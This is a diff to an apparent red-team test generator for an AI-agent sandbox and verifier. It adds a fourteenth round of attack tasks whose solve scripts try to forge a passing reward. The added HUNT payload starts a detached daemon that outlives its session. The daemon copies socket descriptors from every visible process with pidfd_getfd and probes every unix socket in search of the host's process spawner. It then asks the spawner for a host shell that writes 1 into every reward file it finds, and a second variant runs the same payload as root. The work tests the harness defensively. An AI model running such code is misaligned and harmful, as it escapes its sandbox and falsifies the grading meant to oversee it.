@@ -8,7 +8,7 @@ tests' own tools read after the code under test ran; ``--round viii``: inside a 
 ``--round ix``: what ends that process, the reward's descriptor, masks in the verify phase, and the
 line of the tests' own data; ``--round x``: the tests' data where the code under test can write it, and
 what reads the workdir without being one of its programs; ``--round xi``: the verifier's preparation (what
-it prints back, the binary and the shell that run it, the script behind it); ``--round xii``: the guest agent's own stream to the host; ``--round xiii``: a daemon a root agent leaves under another uid with root's capabilities, and commands stopped before their exec. Each task's tests decide 0 (the agent never writes hello into /app/out.txt); each solve.sh
+it prints back, the binary and the shell that run it, the script behind it); ``--round xii``: the guest agent's own stream to the host; ``--round xiii``: a daemon a root agent leaves under another uid with root's capabilities, and commands stopped before their exec; ``--round xiv``: the host's process spawner hunted from inside. Each task's tests decide 0 (the agent never writes hello into /app/out.txt); each solve.sh
 is an attack that tries to turn that 0 into a 1, or into a mask. scripts/attack-table.py runs them on every backend, in both verify modes."""
 
 from __future__ import annotations
@@ -1119,6 +1119,96 @@ def cap_daemon(wanted: str, sig: str, once: bool = False) -> str:
             "sleep 0.5; cat /tmp/capd.log\n")
 
 
+HUNT = """import ctypes, os, socket, struct, sys, time
+libc = ctypes.CDLL(None, use_errno=True)
+if os.fork():
+    sys.exit(0)  # the solve returns; the daemon goes on through the verifier's phase until stopped
+os.setsid()
+if os.fork():
+    os._exit(0)
+log = open('/tmp/hunt.log', 'a', buffering=1)
+# what a host process would run for us: 1 into every reward file it can find, after the tests wrote theirs
+CMD = ('sleep 2; for d in $(find / -xdev -type d -path "*logs/verifier" 2>/dev/null); do echo 1 > "$d/reward.txt"; '
+       'done; echo spawned > /tmp/hunt-spawned')
+def request(argv):
+    strings = ['/', *argv]
+    head = struct.pack('=4I', 0, 0, len(argv), 0)
+    return head + b''.join(s.encode() + b'\\0' for s in strings)
+REQ = request(['/bin/sh', '-c', CMD])
+tried = set()
+def offer(sock, what):
+    try:
+        sock.settimeout(0.2)
+        sock.sendmsg([REQ])
+        log.write(f'SENT to {what}\\n')
+        try:
+            log.write(f'reply from {what}: {sock.recv(8)!r}\\n')
+        except OSError as e:
+            log.write(f'no reply from {what}: {e}\\n')
+    except OSError as e:
+        if what not in tried:
+            log.write(f'send to {what}: {e}\\n')
+    tried.add(what)
+def sweep():
+    # 1. every descriptor of every process we can see: opened again, and copied with pidfd_getfd
+    for p in os.listdir('/proc'):
+        if not p.isdigit() or int(p) == os.getpid():
+            continue
+        try:
+            fds = os.listdir(f'/proc/{p}/fd')
+        except OSError as e:
+            if f'fd {p}' not in tried:
+                log.write(f'fds of {p}: {e}\\n'); tried.add(f'fd {p}')
+            continue
+        pfd = libc.syscall(434, int(p), 0)
+        for n in fds:
+            try:
+                link = os.readlink(f'/proc/{p}/fd/{n}')
+            except OSError:
+                continue
+            if not link.startswith('socket:'):
+                continue
+            what = f'{p}/{n} {link}'
+            if pfd >= 0:
+                fd = libc.syscall(438, pfd, int(n), 0)
+                if fd >= 0:
+                    offer(socket.socket(fileno=fd), what + ' (pidfd_getfd)')
+                    continue
+            if what not in tried:
+                log.write(f'pidfd_getfd {what}: errno {ctypes.get_errno()}\\n'); tried.add(what)
+        if pfd >= 0:
+            os.close(pfd)
+    # 2. every unix socket this network namespace lists, named or abstract, in each type
+    try:
+        rows = open('/proc/net/unix').read().splitlines()[1:]
+    except OSError as e:
+        rows = []
+        log.write(f'/proc/net/unix: {e}\\n')
+    for row in rows:
+        parts = row.split()
+        if len(parts) < 8:
+            continue
+        name = parts[7]
+        addr = '\\0' + name[1:] if name.startswith('@') else name
+        for kind in (socket.SOCK_SEQPACKET, socket.SOCK_STREAM, socket.SOCK_DGRAM):
+            s = socket.socket(socket.AF_UNIX, kind)
+            try:
+                s.settimeout(0.2)
+                s.connect(addr)
+            except OSError as e:
+                if (name, kind) not in tried:
+                    log.write(f'connect {name} {kind}: {e}\\n'); tried.add((name, kind))
+                s.close()
+                continue
+            offer(s, f'{name} {kind}')
+            s.close()
+end = time.monotonic() + 60
+while time.monotonic() < end:
+    sweep()
+    time.sleep(0.3)
+"""
+
+
 ATTACKS_XIII: dict[str, dict[str, object]] = {
     "cap-daemon-uid-list": dict(
         why="a root agent leaves a daemon under a uid of its own (not root, the agent or the verifier) that keeps "
@@ -1174,6 +1264,24 @@ ATTACKS_XII: dict[str, dict[str, object]] = {
 }
 
 
+ATTACKS_XIV: dict[str, dict[str, object]] = {
+    "spawner-hunt": dict(
+        why="a daemon of the solution looks for the host's process spawner (sandfleet-agent spawner, which starts "
+            "any program for whoever holds its socket): every socket descriptor of every process it can see, "
+            "taken with pidfd_getfd, and every unix socket /proc/net/unix lists, named or abstract, in each type; "
+            "to each it sends a spawn request for a host shell that writes 1 into every reward file it finds",
+        test=BY_GRADE, files={"grade.py": OUT_GRADE},
+        solve=heredoc("/tmp/hunt.py", HUNT) + "python3 /tmp/hunt.py </dev/null >/dev/null 2>&1\n"
+              "sleep 1; cat /tmp/hunt.log\n"),
+    "spawner-hunt-root": dict(
+        why="spawner-hunt as the image's root (the Dockerfile's USER root): the same uid as the guest agent, "
+            "which holds the sandbox's stream to its host",
+        dockerfile=DOCKERFILE + "USER root\n", test=BY_GRADE, files={"grade.py": OUT_GRADE},
+        solve=heredoc("/tmp/hunt.py", HUNT) + "python3 /tmp/hunt.py </dev/null >/dev/null 2>&1\n"
+              "sleep 1; cat /tmp/hunt.log\n"),
+}
+
+
 def main() -> int:
     global ROOT, ATTACKS
     if "--round" in sys.argv:
@@ -1182,7 +1290,8 @@ def main() -> int:
                                                                     "vi": ATTACKS_VI, "vii": ATTACKS_VII,
                                                                     "viii": ATTACKS_VIII, "ix": ATTACKS_IX,
                                                                     "x": ATTACKS_X, "xi": ATTACKS_XI,
-                                                                    "xii": ATTACKS_XII, "xiii": ATTACKS_XIII}[rnd]
+                                                                    "xii": ATTACKS_XII, "xiii": ATTACKS_XIII,
+                                                                    "xiv": ATTACKS_XIV}[rnd]
     if ROOT.exists():
         shutil.rmtree(ROOT)
     for name, a in ATTACKS.items():
